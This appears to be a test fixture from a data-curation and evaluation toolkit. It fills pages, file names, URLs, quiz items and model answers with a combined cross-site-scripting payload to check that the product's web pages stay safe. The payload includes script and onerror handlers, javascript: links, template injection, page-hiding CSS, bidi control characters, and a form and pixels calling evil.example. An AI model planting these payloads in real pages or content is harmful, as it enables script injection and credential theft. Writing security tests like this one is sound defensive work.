"""A workspace whose every text is an attack on the page that shows it: made by the product's own commands."""

from __future__ import annotations

import json
import random
from pathlib import Path

from invoke import invoke
from small_tasks import CHOICE
from whole_run import curate

MARKER = "winnow-was-here"
"""What an attack would put into the page."""
ATTACK = (
    f"<img src=x onerror=\"window.owned=1;document.title='{MARKER}'\"><script>window.owned=1</script>"
    "<svg onload=window.owned=1></svg><style>body,.stApp{outline:9px solid red!important;display:none}</style>"
    '<form action="http://evil.example/"><input name="password" value="x"></form>'
    '<img src="http://evil.example/pixel.gif">![x](http://evil.example/md.gif)[x](javascript:window.owned=1)'
    '<iframe src="http://evil.example/"></iframe><a href="javascript:window.owned=1">x</a>'
    ":red[red] $x^2$ `code` **bold** \u202eright to left\u202c zero\u200bwidth \u2066iso\u2069 \x07bell "
    "{{constructor.constructor('window.owned=1')()}} ${window.owned=1} %3Cscript%3E &lt;b&gt; &#60;script&#62;"
)
_THINGS = ("river", "stone", "bridge", "letter", "window", "garden", "season", "harbour", "market", "teacher", "winter")
_DOINGS = ("carries", "follows", "describes", "explains", "repairs", "remembers", "crosses", "measures", "opens")


def _page(number: int) -> dict[str, str]:
    """A page that passes the rules, with the attack in its text, its title and its address."""
    draw = random.Random(number)
    sentences = [
        f"The {draw.choice(_THINGS)} of the {draw.choice(_THINGS)} {draw.choice(_DOINGS)} a {draw.choice(_THINGS)} "
        f"that the {draw.choice(_THINGS)} {draw.choice(_DOINGS)} with {draw.randrange(10**6)} others to be sure."
        for _ in range(30)
    ]
    text = "\n".join([ATTACK, *sentences])
    return {"url": f"https://host{number % 3}.example/<script>window.owned=1</script>/{number}", "text": text}


def build(root: Path) -> None:
    """Runs of every tool under `root`."""
    source = root.parent / "hostile"
    source.mkdir()
    pages = source / '<img src=x onerror="window.owned=1">.jsonl'
    rows = [_page(number) for number in range(12)] + [{"url": "https://x.example/short", "text": ATTACK}]
    pages.write_text("".join(json.dumps(row) + "\n" for row in rows), "utf-8")
    name = "<b onmouseover=window.owned=1>run"
    made = curate("run", "--input", pages, "--root", root, "--out", root / name, "--set", "duplicates.min_left_chars=0")
    assert made.code == 0, made.stderr
    assert curate("index-text", root / name, "--all").code == 0
    _asked(source, root)
    _compared(source, root)


def _asked(source: Path, root: Path) -> None:
    (source / "colours.yaml").write_text(CHOICE)
    items = [
        {"question": ATTACK, "choices": [ATTACK, f"{ATTACK}{number}", "b", "c"], "answer": 0, "theme": ATTACK}
        for number in range(8)
    ]
    (source / "colours.jsonl").write_text("".join(json.dumps(item) + "\n" for item in items), "utf-8")
    for seed in (0, 1):
        asked = ("run", "--model", f"mock:{seed}", "--tasks", source / "colours.yaml", "--data-root", source)
        ended = invoke("evalkit", *asked, "--root", root, "--out", root / f"eval{seed}", "--no-progress")
        assert ended.code == 0, ended.stderr


def _compared(source: Path, root: Path) -> None:
    for model in ("a", "b"):
        answers = [
            {"instruction": f"{ATTACK} {number}", "output": f"{model} {ATTACK}", "generator": f"<i>{model}</i>"}
            for number in range(5)
        ]
        (source / f"{model}.json").write_text(json.dumps(answers), "utf-8")
    outputs = ("--outputs", source / "a.json", "--outputs", source / "b.json")
    ended = invoke("evalkit", "arena", "pairs", *outputs, "--root", root, "--out", root / "arena")
    assert ended.code == 0, ended.stderr
